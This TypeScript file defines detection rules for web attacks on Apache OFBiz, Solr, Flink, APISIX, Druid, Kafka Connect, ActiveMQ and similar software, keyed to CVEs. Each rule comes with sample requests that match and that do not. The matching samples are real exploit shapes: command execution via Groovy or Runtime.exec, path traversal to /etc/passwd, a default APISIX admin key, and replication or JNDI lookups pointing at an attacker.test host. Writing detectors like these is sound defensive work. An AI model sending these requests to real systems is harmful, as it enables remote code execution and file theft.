import { filePost, formPost, get, jsonPost, send, xmlPost } from '../../../request-samples.ts';
import {
  allOf,
  anyOf,
  bodyHas,
  bodyMatches,
  fieldHas,
  fieldIs,
  fileNameMatches,
  hasField,
  hasHeader,
  headerHas,
  methodIs,
  pathEnds,
  pathHas,
  pathMatches,
  queryHas,
  rawPathHas,
} from '../conditions.ts';
import { detection } from '../targeted-rule.ts';

/** Projects of the Apache Software Foundation, and applications that resemble them. */
export const apacheProjectRules = [
  detection({
    ref: 'managed-ofbiz-password-change',
    description:
      'Apache OFBiz: skips authentication with a required change of password (CVE-2023-49070, CVE-2023-51467)',
    categories: ['apache-ofbiz', 'authentication-bypass', 'cve-2023-49070', 'cve-2023-51467'],
    expression: allOf(
      pathHas('/control/'),
      queryHas('requirepasswordchange'),
      fieldIs('requirePasswordChange', 'y'),
    ),
    matching: [
      get('/webtools/control/ping?USERNAME=&PASSWORD=&requirePasswordChange=Y'),
      formPost('/webtools/control/ProgramExport/?requirePasswordChange=Y', { groovyProgram: 'x' }),
    ],
    other: [
      formPost('/webtools/control/login', { USERNAME: 'ada', PASSWORD: 'x' }),
      get('/partymgr/control/main'),
    ],
  }),
  detection({
    ref: 'managed-ofbiz-view-override',
    description:
      'Apache OFBiz: runs Groovy or SQL with a view behind another one (CVE-2024-32113, CVE-2024-36104, CVE-2024-38856, CVE-2024-45195)',
    categories: [
      'apache-ofbiz',
      'authentication-bypass',
      'code-injection',
      'remote-code-execution',
      'cve-2024-32113',
      'cve-2024-36104',
      'cve-2024-38856',
      'cve-2024-45195',
    ],
    expression: allOf(
      pathHas(
        'programexport',
        'entitysqlprocessor',
        'viewdatafile',
        'xmldsdump',
        'statsinceststart',
        'entityimport',
      ),
      anyOf(
        pathMatches(
          '/control/[^/]+/(?:programexport|entitysqlprocessor|viewdatafile|xmldsdump|entityimport)',
        ),
        rawPathHas('/../', ';/', '%2e', '/./'),
      ),
    ),
    matching: [
      formPost('/webtools/control/forgotPassword/ProgramExport', {
        groovyProgram: "throw new Exception('id'.execute().text)",
      }),
      formPost('/webtools/control/forgotPassword;/%2e%2e/ProgramExport', { groovyProgram: 'x' }),
      get('/webtools/control/main/viewdatafile'),
    ],
    other: [get('/webtools/control/ProgramExport'), get('/webtools/control/main')],
  }),
  detection({
    ref: 'managed-solr-velocity',
    description: 'Apache Solr: runs a template in an argument (CVE-2019-17558)',
    categories: ['apache-solr', 'template-injection', 'remote-code-execution', 'cve-2019-17558'],
    expression: anyOf(
      allOf(queryHas('v.template'), anyOf(pathHas('/solr', '/select'))),
      allOf(pathHas('/solr/', '/config'), bodyHas('params.resource.loader.enabled')),
    ),
    matching: [
      get(
        '/solr/demo/select?q=1&&wt=velocity&v.template=custom&v.template.custom=%23set($x=%27%27)',
      ),
      jsonPost('/solr/demo/config', {
        'update-queryresponsewriter': { 'params.resource.loader.enabled': 'true' },
      }),
    ],
    other: [
      get('/solr/demo/select?q=template&wt=json'),
      jsonPost('/solr/demo/config', {
        'set-property': { 'updateHandler.autoCommit.maxTime': 15000 },
      }),
    ],
  }),
  detection({
    ref: 'managed-solr-requests',
    description:
      'Apache Solr: reads files, requests internal hosts or runs programs (CVE-2017-12629, CVE-2019-0193, CVE-2021-27905)',
    categories: [
      'apache-solr',
      'ssrf',
      'directory-traversal',
      'remote-code-execution',
      'cve-2017-12629',
      'cve-2019-0193',
      'cve-2021-27905',
    ],
    expression: allOf(
      pathHas('/solr/'),
      anyOf(
        fieldHas('stream.url', 'file:', '127.0.0.1', 'localhost'),
        allOf(pathHas('/replication'), hasField('masterUrl')),
        allOf(pathHas('/replication'), hasField('leaderUrl')),
        allOf(pathHas('/dataimport'), fieldHas('dataConfig', '<script', 'url=')),
        bodyHas('runexecutablelistener'),
      ),
    ),
    matching: [
      get('/solr/demo/debug/dump?param=ContentStreams&stream.url=file:///etc/passwd'),
      get('/solr/demo/replication?command=fetchindex&masterUrl=http://attacker.test/'),
      jsonPost('/solr/demo/config', {
        'add-listener': { event: 'postCommit', class: 'solr.RunExecutableListener', exe: 'sh' },
      }),
    ],
    other: [get('/solr/demo/replication?command=details'), get('/solr/demo/select?q=stream.url')],
  }),
  detection({
    ref: 'managed-flink-files',
    description:
      'Apache Flink: reads or writes files with encoded slashes (CVE-2020-17518, CVE-2020-17519)',
    categories: [
      'apache-flink',
      'directory-traversal',
      'file-upload',
      'cve-2020-17518',
      'cve-2020-17519',
    ],
    expression: anyOf(
      allOf(rawPathHas('/jobmanager/logs/', '/taskmanagers/'), rawPathHas('%252f', '%2f')),
      allOf(pathHas('/jars/upload'), fileNameMatches('\\.\\./')),
    ),
    matching: [
      get('/jobmanager/logs/..%252f..%252f..%252fetc%252fpasswd'),
      filePost('/jars/upload', '../../../tmp/x'),
    ],
    other: [get('/jobmanager/logs/flink.log'), filePost('/jars/upload', 'job-1.0.jar')],
  }),
  detection({
    ref: 'managed-apisix-batch',
    description:
      'Apache APISIX: poses as a local client in a batch, or has the key of the manual (CVE-2020-13945, CVE-2021-45232, CVE-2022-24112)',
    categories: [
      'apache-apisix',
      'authentication-bypass',
      'remote-code-execution',
      'cve-2020-13945',
      'cve-2021-45232',
      'cve-2022-24112',
    ],
    expression: allOf(
      pathHas('/apisix/'),
      anyOf(
        allOf(pathHas('/apisix/batch-requests'), bodyHas('x-real-ip')),
        headerHas('x-api-key', 'edd1c9f034335f136f87ad84b625c8f1'),
        pathHas('/apisix/admin/migrate/export', '/apisix/admin/migrate/import'),
      ),
    ),
    matching: [
      jsonPost('/apisix/batch-requests', {
        headers: { 'X-Real-IP': '127.0.0.1' },
        pipeline: [{ path: '/apisix/admin/routes/1', method: 'PUT' }],
      }),
      jsonPost(
        '/apisix/admin/routes',
        { uri: '/x' },
        { 'x-api-key': 'edd1c9f034335f136f87ad84b625c8f1' },
      ),
      get('/apisix/admin/migrate/export'),
    ],
    other: [
      jsonPost('/apisix/batch-requests', { pipeline: [{ path: '/items' }] }),
      get('/apisix/status'),
    ],
  }),
  detection({
    ref: 'managed-druid-sampler',
    description:
      'Apache Druid: runs JavaScript or reads files with the sampler (CVE-2021-25646, CVE-2021-36749)',
    categories: [
      'apache-druid',
      'code-injection',
      'ssrf',
      'remote-code-execution',
      'cve-2021-25646',
      'cve-2021-36749',
    ],
    expression: allOf(
      pathHas('/druid/indexer/v1/'),
      bodyHas(
        '"javascript"',
        'file:///',
        'file:/etc',
        '"jndi',
        'krb5loginmodule',
        'jndiloginmodule',
      ),
    ),
    matching: [
      jsonPost('/druid/indexer/v1/sampler', {
        spec: {
          dataSchema: {
            transformSpec: {
              filter: {
                type: 'javascript',
                function: 'function(v){return java.lang.Runtime.getRuntime().exec("id")}',
                '': { enabled: true },
              },
            },
          },
        },
      }),
      jsonPost('/druid/indexer/v1/sampler?for=connect', {
        spec: { ioConfig: { inputSource: { type: 'http', uris: ['file:///etc/passwd'] } } },
      }),
    ],
    other: [
      jsonPost('/druid/indexer/v1/sampler', {
        spec: {
          ioConfig: { inputSource: { type: 'http', uris: ['https://data.example.com/a.json'] } },
        },
      }),
      get('/druid/indexer/v1/tasks'),
    ],
  }),
  detection({
    ref: 'managed-kafka-connect-jaas',
    description:
      'Apache Kafka Connect: loads a class of another host with the login of a connector (CVE-2023-25194)',
    categories: ['apache-kafka', 'remote-code-execution', 'cve-2023-25194'],
    expression: allOf(
      pathHas('/connectors', '/connector-plugins'),
      bodyHas('jndiloginmodule', 'ldaploginmodule'),
    ),
    matching: [
      jsonPost('/connectors', {
        name: 'x',
        config: {
          'database.history.producer.sasl.jaas.config':
            'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://attacker.test";',
        },
      }),
      send(
        'PUT',
        '/connector-plugins/x/config/validate',
        'application/json',
        '{"sasl.jaas.config":"com.sun.security.auth.module.LdapLoginModule required;"}',
      ),
    ],
    other: [
      jsonPost('/connectors', {
        name: 'sink',
        config: {
          'sasl.jaas.config': 'org.apache.kafka.common.security.plain.PlainLoginModule required;',
        },
      }),
      get('/connectors'),
    ],
  }),
  detection({
    ref: 'managed-activemq-files',
    description:
      'Apache ActiveMQ: writes a script with the file server, or changes the log with Jolokia (CVE-2016-3088, CVE-2022-41678)',
    categories: [
      'apache-activemq',
      'file-upload',
      'remote-code-execution',
      'cve-2016-3088',
      'cve-2022-41678',
    ],
    expression: anyOf(
      allOf(pathHas('/fileserver/'), methodIs('PUT', 'MOVE')),
      allOf(
        pathHas('/api/jolokia'),
        bodyHas('jdk.management.jfr', 'org.apache.logging.log4j2', 'setconfigtext'),
      ),
    ),
    matching: [
      send('PUT', '/fileserver/a.txt', 'text/plain', '<%=1%>'),
      {
        ...get('/fileserver/a.txt', { destination: 'file:///opt/activemq/webapps/api/a.jsp' }),
        method: 'MOVE',
      },
      jsonPost('/api/jolokia/', {
        type: 'exec',
        mbean: 'jdk.management.jfr:type=FlightRecorder',
        operation: 'newRecording',
      }),
    ],
    other: [
      get('/fileserver/report.pdf'),
      jsonPost('/api/jolokia/', { type: 'read', mbean: 'java.lang:type=Memory' }),
    ],
  }),
  detection({
    ref: 'managed-hugegraph-gremlin',
    description: 'Apache HugeGraph: runs Java in a Gremlin query (CVE-2024-27348)',
    categories: ['apache-hugegraph', 'code-injection', 'remote-code-execution', 'cve-2024-27348'],
    expression: allOf(
      pathHas('/gremlin'),
      bodyHas('java.lang', 'forname(', 'processbuilder', 'getruntime'),
    ),
    matching: [
      jsonPost('/gremlin', {
        gremlin:
          'Thread t = Thread.currentThread(); Class c = Class.forName("java.lang.ProcessBuilder");',
        bindings: {},
        language: 'gremlin-groovy',
      }),
      jsonPost('/apis/gremlin', { gremlin: 'java.lang.Runtime.getRuntime().exec("id")' }),
    ],
    other: [
      jsonPost('/gremlin', { gremlin: "g.V().has('name','ada').out('knows')" }),
      get('/gremlin?gremlin=g.V().count()'),
    ],
  }),
  detection({
    ref: 'managed-unomi-expression',
    description: 'Apache Unomi: runs an expression in a condition (CVE-2020-11975, CVE-2020-13942)',
    categories: [
      'apache-unomi',
      'code-injection',
      'remote-code-execution',
      'cve-2020-11975',
      'cve-2020-13942',
    ],
    expression: allOf(
      pathHas('/context.json', '/eventcollector'),
      bodyHas('script::', '(#', 'getruntime', 'java.lang'),
    ),
    matching: [
      jsonPost('/context.json', {
        filters: [
          {
            filters: [
              {
                condition: {
                  parameterValues: { x: 'script::Runtime r = Runtime.getRuntime(); r.exec("id");' },
                },
              },
            ],
          },
        ],
      }),
      jsonPost('/context.json', {
        personalizations: [
          {
            contents: [
              {
                filters: [
                  {
                    condition: {
                      parameterValues: {
                        propertyName: '(#r=@java.lang.Runtime@getRuntime()).(#r.exec("id"))',
                      },
                    },
                  },
                ],
              },
            ],
          },
        ],
      }),
    ],
    other: [
      jsonPost('/context.json', {
        source: { itemId: 'homepage' },
        requiredProfileProperties: ['*'],
      }),
      get('/context.json'),
    ],
  }),
  detection({
    ref: 'managed-camel-header',
    description: 'Apache Camel: sets headers that name a program (CVE-2025-27636, CVE-2025-29891)',
    categories: ['apache-camel', 'command-injection', 'header', 'cve-2025-27636', 'cve-2025-29891'],
    expression: anyOf(
      hasHeader('camelexeccommandexecutable'),
      hasHeader('camelexeccommandargs'),
      hasHeader('camelhttpuri'),
      hasHeader('camelbeanmethodname'),
      queryHas('camelexeccommand'),
    ),
    matching: [
      get('/camel/run', { camelexeccommandexecutable: 'id' }),
      get('/?CAmelExecCommandExecutable=ls'),
    ],
    other: [get('/camels?humps=2'), get('/', { 'x-camel': '1' })],
  }),
  detection({
    ref: 'managed-nacos-agent',
    description:
      'Nacos: poses as another server or runs SQL without authentication (CVE-2021-29441, CVE-2021-29442)',
    categories: [
      'nacos',
      'authentication-bypass',
      'sql-injection',
      'cve-2021-29441',
      'cve-2021-29442',
    ],
    expression: allOf(
      pathHas('/nacos/', '/v1/auth/', '/v1/cs/'),
      anyOf('http.user_agent contains "Nacos-Server"', pathHas('/v1/cs/ops/derby')),
    ),
    matching: [
      get('/nacos/v1/auth/users?pageNo=1&pageSize=9', { 'user-agent': 'Nacos-Server' }),
      get('/nacos/v1/cs/ops/derby?sql=select%20*%20from%20users'),
    ],
    other: [
      get('/nacos/v1/ns/instance/list?serviceName=shop', {
        'user-agent': 'Nacos-Java-Client:v2.2.0',
      }),
      get('/', { 'user-agent': 'Nacos-Server' }),
    ],
  }),
  detection({
    ref: 'managed-xxl-job-script',
    description: 'XXL-JOB: runs a shell script with an executor',
    categories: ['xxl-job', 'command-injection', 'remote-code-execution'],
    expression: allOf(
      pathEnds('/run'),
      bodyHas('"gluetype"'),
      bodyHas('glue_shell', 'glue_python', 'glue_powershell', 'glue_php', 'glue_nodejs'),
    ),
    matching: [
      jsonPost('/run', {
        jobId: 1,
        executorHandler: 'demoJobHandler',
        glueType: 'GLUE_SHELL',
        glueSource: 'id',
        glueUpdatetime: 1,
      }),
      jsonPost('/executor/run', { glueType: 'GLUE_POWERSHELL', glueSource: 'whoami' }),
    ],
    other: [
      jsonPost('/run', { jobId: 1, glueType: 'BEAN', executorHandler: 'daily' }),
      jsonPost('/run', { distance: 5 }),
    ],
  }),
  detection({
    ref: 'managed-java-xmlrpc-object',
    description:
      'Apache OFBiz, Zoho ManageEngine: a serialised object in an XML-RPC call (CVE-2020-9496, CVE-2022-35405, CVE-2023-49070)',
    categories: [
      'apache-ofbiz',
      'zoho',
      'manageengine',
      'deserialization',
      'remote-code-execution',
      'cve-2020-9496',
      'cve-2022-35405',
      'cve-2023-49070',
    ],
    expression: allOf(pathHas('/xmlrpc'), bodyMatches('<[a-z]{0,9}:?serializable')),
    matching: [
      xmlPost(
        '/webtools/control/xmlrpc;/?USERNAME=&PASSWORD=&requirePasswordChange=Y',
        '<methodCall><params><param><value><struct><member><value><serializable xmlns="http://ws.apache.org/xmlrpc/namespaces/extensions">rO0AB</serializable></value></member></struct></value></param></params></methodCall>',
      ),
      xmlPost('/xmlrpc', '<methodCall><ex:serializable>rO0ABXNy</ex:serializable></methodCall>'),
    ],
    other: [
      xmlPost('/xmlrpc', '<methodCall><methodName>ping</methodName></methodCall>'),
      xmlPost('/xmlrpc.php', '<methodCall><string>a serializable object</string></methodCall>'),
    ],
  }),
];
